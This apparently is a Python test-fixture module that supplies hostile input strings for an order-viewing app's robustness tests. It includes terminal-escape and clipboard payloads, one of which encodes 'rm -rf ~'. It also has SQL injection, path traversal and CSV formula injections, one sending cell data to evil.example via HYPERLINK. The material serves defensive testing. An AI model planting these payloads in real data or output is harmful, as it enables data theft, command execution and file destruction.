"""The shared corpus of hostile strings every robustness test feeds the app.

Each entry is (name, text). Some carry control characters: the single-line schemas refuse those
(``FieldErrors``), so tests that need them stored write them straight through the ORM, the way a
value imported by another system would arrive. ``PRINTABLE`` are the ones a dialog accepts.
"""

from __future__ import annotations

from orderview.safetext import has_unsafe

LONG = "0123456789" * 1000  # 10,000 characters

CORPUS: list[tuple[str, str]] = [
    # markup
    ("brackets", "ACME [Ltd] [/b] x"),
    ("closing_tag", "[/]"),
    ("bold_markup", "[bold red]loud[/bold red]"),
    ("click_quit", "[@click=app.quit]"),
    ("click_simulate", "[@click=app.simulate_key('D')]x[/]"),
    ("click_screenshot", "[@click=app.screenshot('/tmp/owned.svg')]shot[/]"),
    ("nested_brackets", "[[b]]x[[/b]] [link=file:///etc/passwd]y[/link]"),
    # terminal escapes
    ("csi_clear", "EVIL\x1b[2J\x1b[1;1HPWNED"),
    ("csi_colour", "\x1b[31mred\x1b[0m"),
    ("osc_title", "\x1b]0;pwned\x07"),
    ("osc_clipboard", "\x1b]52;c;cm0gLXJmIH4K\x07"),
    ("osc_st", "\x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\"),
    ("bel", "ding\x07dong"),
    ("backspace", "abc\x08\x08\x08XYZ"),
    ("carriage_return", "safe\rEVIL"),
    ("newline", "line1\nline2"),
    ("tab", "a\tb"),
    ("nul", "nul\x00byte"),
    ("c1_csi", "c1\x9b2Jcsi"),
    ("c1_osc", "\x9d0;pwned\x9c"),
    ("del", "del\x7fete"),
    # unicode tricks
    ("bidi_override", "invoice\u202egnp.exe"),
    ("bidi_isolate", "\u2067abc\u2069 \u200fmark"),
    ("zero_width", "zero\u200bwidth\u200d\ufeffjoin"),
    ("arabic_letter_mark", "total\u061c 100 \u061cEUR"),
    ("line_separators", "line\u2028separator\u2029paragraph"),
    ("tag_characters", "tag\U000e0001\U000e0070\U000e0077\U000e006e\U000e007f"),
    ("invisible_format", "soft\u00adhy\u2060phen\u180e\u2062x"),
    ("combining", "Zalgo Z\u0351\u0352\u0353a\u0300\u0301\u0302l\u0303g\u0304o\u0305"),
    ("cjk_wide", "株式会社テスト漢字"),
    ("emoji", "🦀🔥 family 👨\u200d👩\u200d👧 flag 🇩🇪"),
    ("rtl", "שלום مرحبا"),
    ("long", LONG),
    # injection look-alikes
    ("sql_drop", "'; DROP TABLE orders; --"),
    ("sql_or", "x' OR '1'='1"),
    ("sql_like", "100%_off\\"),
    ("csv_hyperlink", '=HYPERLINK("http://evil.example/?"&A1,"click")'),
    ("csv_plus", "+1"),
    ("csv_minus", "-1"),
    ("csv_at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("csv_tab", "\t=1+1"),
    ("csv_cr", "\r=1+1"),
    ("csv_cmd", "=cmd|' /C calc'!A0"),
    ("quotes", "he said \"hi\", 'bye'"),
    ("path_traversal", "../../../etc/passwd"),
    ("dotfile", ".bashrc"),
]

BY_NAME = dict(CORPUS)
STRINGS = [text for _, text in CORPUS]
PRINTABLE = [(n, t) for n, t in CORPUS if not has_unsafe(t)]
UNSAFE = [(n, t) for n, t in CORPUS if has_unsafe(t)]
FORMULA = [(n, t) for n, t in CORPUS if t.startswith(("=", "+", "-", "@", "\t", "\r"))]

# What must never reach the terminal raw when it came from data (the visible stand-ins such as
# "␛]0;pwned␇" are fine: they are text).
FORBIDDEN_OUTPUT: list[bytes] = [
    b"\x1b]0;pwned",
    b"\x1b]52;c;",
    b"\x1b]8;;http://evil.example",
    b"\x1b[2J\x1b[1;1HPWNED",
    b"\x1b[31mred",
    b"\x07dong",
    b"\x08\x08\x08XYZ",
    b"safe\rEVIL",
    "\x9b2Jcsi".encode(),
    b"\xc2\x9b",  # C1 CSI in UTF-8
    b"\xc2\x9d",  # C1 OSC in UTF-8
    b"del\x7fete",
    b"nul\x00byte",
]


# One sample of every class ``safetext.UNSAFE`` holds: no output may carry any of them raw
# (``tests/test_safetext_classes.py`` walks every output path with ``EVERY_CLASS``).
CLASS_SAMPLES: dict[str, str] = {
    "C0 (ESC)": "\x1b",
    "C0 (BEL)": "\x07",
    "DEL": "\x7f",
    "C1 (CSI)": "\x9b",
    "bidi override": "\u202e",
    "bidi isolate": "\u2067",
    "Arabic letter mark": "\u061c",
    "line separator": "\u2028",
    "paragraph separator": "\u2029",
    "tag character": "\U000e0041",
    "cancel tag": "\U000e007f",
    "zero-width space": "\u200b",
    "BOM": "\ufeff",
    "soft hyphen": "\u00ad",
    "word joiner": "\u2060",
}
EVERY_CLASS = "ev" + "".join(f"{ch}{i}" for i, ch in enumerate(CLASS_SAMPLES.values()))


def raw_samples(text: str) -> list[str]:
    """The class samples ``text`` carries raw (names), for a message that says which."""
    return [name for name, ch in CLASS_SAMPLES.items() if ch in text]


def fit(text: str, limit: int) -> str:
    """The corpus string cut to a field's length limit (the long one especially)."""
    return text[:limit]


def ids() -> list[str]:
    return [name for name, _ in CORPUS]


def typed_value(text: str, *, pasted: bool, multiline: bool = False, max_length: int = 0) -> str:
    """What an empty text box holds after ``text`` reaches it, the way a terminal delivers it.

    Typed by keys, only printable characters insert text (a zero-width space or joiner typed
    on its own is dropped, see docs/robustness.md), and a box with ``max_length`` stops taking
    keys at its limit. Pasted, a one-line box keeps the paste's first line, and refuses a paste
    that would pass its ``max_length`` whole; a multi-line box keeps every line.
    """
    if pasted:
        # a multi-line box keeps every line, CR, CRLF and U+2028/U+2029 becoming line breaks
        line = (
            text.replace("\r\n", "\n")
            .replace("\r", "\n")
            .replace("\u2028", "\n")
            .replace("\u2029", "\n")
            if multiline
            else (text.splitlines() or [""])[0]
        )
        return "" if max_length and len(line) > max_length else line
    kept = "".join(ch for ch in text if ch.isprintable())
    return kept[:max_length] if max_length else kept
